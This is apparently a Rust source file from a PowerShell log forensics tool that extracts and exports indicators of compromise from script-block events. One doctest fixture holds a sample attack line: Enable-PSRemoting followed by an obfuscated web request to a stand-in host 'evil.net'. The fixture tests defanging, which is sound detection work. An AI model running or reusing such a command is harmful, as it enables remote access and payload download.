//! [`Session::indicators`], and exports of what was found.

use super::state::Session;
use crate::indicators::{IndicatorSet, TextIndex, TextIndicators, hash};
use crate::ordered::OrderedSet;
use crate::report::{
    self, ExportFormat, ExportOptions, IndicatorList, IndicatorQuery, Report, write_export,
};
use std::io::{self, Write};

impl Session {
    /// Returns the indicators of the script blocks that rules match, or with
    /// [`Options::indicators`](super::Options::indicators) of every one: URLs, hosts, addresses, hashes, paths …, of their
    /// texts and of their views. The first call after more was read collects them.
    ///
    /// ```
    /// use scriptscope::report::IndicatorQuery;
    /// use scriptscope::{Options, Session};
    ///
    /// let record = r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"FS03",
    ///     "ScriptBlockId":"1","ScriptBlockText":"Enable-PSRemoting; iwr ('http://ev'+'il.net/a') -Proxy http://127.0.0.1"}"#;
    /// let mut session = Session::new(Options::default()).unwrap();
    /// session.begin("log.json").unwrap();
    /// session.push(record.as_bytes()).unwrap();
    /// session.end().unwrap();
    /// let list = session.indicators(&IndicatorQuery::default());
    /// let shown: Vec<_> = list.rows.iter().map(|row| (row.defanged.as_str(), row.view.as_str())).collect();
    /// assert_eq!(shown, [("hxxp://evil[.]net/a", "plain"), ("evil[.]net", "plain")]);
    /// assert_eq!(list.left_out["loopback"], 1);
    /// ```
    pub fn indicators(&mut self, query: &IndicatorQuery) -> IndicatorList {
        let of_block = query.filter.block.as_ref().map(|id| {
            let text = self.text(id, None).unwrap_or_default();
            let texts = TextIndicators::new(&text, self.config.views);
            let hashes = texts.found.keys().map(|own| hash(own.kind, &own.value));
            hashes.collect::<OrderedSet<u64>>()
        });
        IndicatorList::new(self.indicator_set(), query, of_block.as_ref())
    }

    /// Writes what was found in a form of another program, or a table of it. The same for page, command line and libraries.
    ///
    /// ```
    /// use scriptscope::report::{ExportFormat, ExportOptions};
    /// use scriptscope::{Options, Session};
    ///
    /// let mut session = Session::new(Options::default()).unwrap();
    /// let mut layer = Vec::new();
    /// session.export(ExportFormat::Navigator, &ExportOptions::default(), &mut layer).unwrap();
    /// assert!(layer.starts_with(b"{\"name\":\"scriptscope\",\"versions\":"));
    /// ```
    ///
    /// # Errors
    ///
    /// Those of `to`.
    pub fn export(
        &mut self,
        format: ExportFormat,
        options: &ExportOptions,
        to: &mut dyn Write,
    ) -> io::Result<()> {
        let report = self.report();
        self.export_of(&report, format, options, to)
    }

    /// Writes what [`Session::export`] does, of a report of this session that was made before.
    ///
    /// # Errors
    ///
    /// Those of `to`.
    pub fn export_of(
        &mut self,
        report: &Report,
        format: ExportFormat,
        options: &ExportOptions,
        to: &mut dyn Write,
    ) -> io::Result<()> {
        let list = IndicatorList::new(self.indicator_set(), &IndicatorQuery::default(), None);
        write_export((report, &list.rows), format, options, to)
    }

    fn indicator_set(&mut self) -> &IndicatorSet {
        if self.indicators.is_none() {
            let mut set = IndicatorSet::default();
            let mut others = None;
            if self.config.indicators
                && let Ok((listing, inventory, _)) = self.listing()
            {
                let (ids, unread) = listing.add_indicators(inventory, &mut set);
                others = Some(ids);
                set.unread = unread;
                set.lacks_texts = inventory.indicators.as_ref().is_some_and(TextIndex::is_limited);
            }
            let matched = self.store.matched_blocks(&self.rules).blocks;
            let views = self.config.views;
            report::collect_indicators(&mut set, &matched, others.as_ref(), &self.sources, views);
            self.indicators = Some(set);
        }
        self.indicators.get_or_insert_default()
    }
}
